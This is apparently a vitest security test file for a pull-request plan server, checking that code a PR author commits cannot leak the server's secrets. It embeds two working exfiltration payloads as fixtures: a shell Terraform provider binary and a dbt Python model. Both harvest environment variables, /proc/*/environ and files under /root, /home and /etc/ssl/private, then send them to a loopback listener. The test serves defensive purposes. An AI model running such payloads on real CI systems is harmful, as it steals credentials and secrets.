import { createServer, type Server } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { shopRepoFiles } from '../integration/dbt-support.js';
import { type Harness, startHarness } from '../support/harness.js';
import { type Canary, canaryForms, expectNoCanary } from './support/canary.js';

/**
 * The server's secrets as canaries: each whole, and each line of a PEM key long enough to be
 * unmistakable, in every form an exfiltration might use (support/canary.ts).
 */
function canaries(secrets: readonly string[]): Canary[] {
  const pieces = secrets.flatMap((s) => [s, ...s.split('\n').filter((line) => line.trim().length >= 24)]);
  return [...new Set(pieces)].map((value) => ({ value, forms: canaryForms(value) }));
}

/**
 * Plan-time code execution by a pull request author, the two ways the threat model names: a provider
 * binary committed under terraform.d/plugins (OpenTofu installs it offline at `init` and runs it at
 * `plan`) and a dbt Python model (dbt runs it during the plan's build). The code reads every secret it
 * can think of (its environment, other processes', the server's data and install folders) and tries to
 * send it to a listener on loopback and to print it where the comment shows it. Nothing of the server's
 * secrets may reach the listener, a comment, a status, or the log.
 */
describe('plan-time code in a pull request (github, redis)', () => {
  let h: Harness;
  let listener: Server;
  let port = 0;
  const received: string[] = [];
  let shop: Record<string, string>;

  beforeAll(async () => {
    listener = createServer((socket) => {
      socket.on('data', (chunk) => received.push(chunk.toString('utf8')));
      received.push('(connected)');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as { port: number }).port;
    shop = await shopRepoFiles();
    h = await startHarness({
      forge: 'github',
      backend: 'redis',
      initialFiles: { 'README.md': '# infra\n', ...shop },
      env: { SLUICE_LOCK_MODE: 'off' },
    });
  });
  afterEach(() => h.forge.assertNoViolations());
  afterAll(async () => {
    await h?.close();
    await new Promise((resolve) => listener.close(resolve));
  });

  /** What the attack reads: places a PR author could guess on a default install. */
  const targets = () =>
    [h.settings.dataDir, process.cwd(), '/etc/ssl/private', '/root', '/home'].map((p) => `'${p}'`).join(' ');

  const expectNothingLeaked = (number: number, sha: string) => {
    const said = [
      ...h.forge.comments(number).map((c) => c.body),
      ...[...h.forge.statuses(sha)].map((s) => s.description),
      ...h.logs,
      ...received,
    ].join('\n');
    for (const canary of canaries(h.settings.secrets)) expectNoCanary(said, canary);
    expect(received, 'nothing reached the listener on loopback').toEqual([]);
  };

  it('a provider binary committed under terraform.d/plugins', async () => {
    const provider = `#!/bin/sh
# Runs when OpenTofu starts the provider: collect, then exfiltrate.
loot="$(env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; for t in ${targets()}; do find "$t" -maxdepth 3 -type f 2>/dev/null | head -50 | while read -r f; do cat "$f" 2>/dev/null; done; done)"
/usr/bin/node -e "const s=require('net').connect(${port},'127.0.0.1',()=>s.end(process.argv[1]));s.on('error',()=>{})" "$loot" 2>/dev/null
# One line (what the plugin client quotes back), short enough for its line reader.
printf 'LOOT %s %s\\n' "$(printf %s "$loot" | base64 -w0 | head -c 1500)" "$(printf %s "$loot" | tr '\\n' ' ' | head -c 1500)"
`;
    const pr = await h.openPullRequest(1, {
      'evil/main.tf': `terraform {\n  required_providers {\n    evil = {\n      source  = "acme/evil"\n      version = "1.0.0"\n    }\n  }\n}\n\nresource "evil_thing" "x" {}\n`,
      'evil/terraform.d/plugins/registry.opentofu.org/acme/evil/1.0.0/linux_amd64/terraform-provider-evil_v1.0.0':
        { executable: provider },
    });
    const status = await h.planDone(pr.headSha, 120_000);
    expect(status.state).toBe('failure');
    // The binary did run: OpenTofu quotes the line it printed instead of a plugin handshake.
    expect(
      h
        .planComments(1)
        .map((c) => c.body)
        .join('\n'),
    ).toContain('LOOT');
    expectNothingLeaked(1, pr.headSha);
  });

  it('a dbt Python model', async () => {
    const model = `import os, glob, socket, base64

def model(dbt, session):
    dbt.config(materialized="table")
    loot = []
    loot.append(repr(dict(os.environ)))
    for path in glob.glob("/proc/*/environ"):
        try:
            loot.append(open(path, "rb").read().decode("utf8", "replace"))
        except Exception:
            pass
    for target in [${targets().replaceAll("' '", "', '")}]:
        for root, _, files in os.walk(target):
            for name in files[:50]:
                try:
                    loot.append(open(os.path.join(root, name), "rb").read(100000).decode("utf8", "replace"))
                except Exception:
                    pass
    text = "\\n".join(loot)
    try:
        s = socket.create_connection(("127.0.0.1", ${port}), timeout=2)
        s.sendall(text.encode())
        s.close()
    except Exception:
        pass
    raise Exception("LOOT " + base64.b64encode(text.encode()).decode() + " " + text[:20000])
`;
    const pr = await h.openPullRequest(2, { 'shop/models/staging/evil.py': model });
    const status = await h.planDone(pr.headSha, 180_000);
    expect(status.state).toBe('failure');
    // The model did run (its error is what failed the plan), so the defence was tested, not skipped.
    expect(
      h
        .planComments(2)
        .map((c) => c.body)
        .join('\n'),
    ).toContain('evil');
    expectNothingLeaked(2, pr.headSha);
  });
});
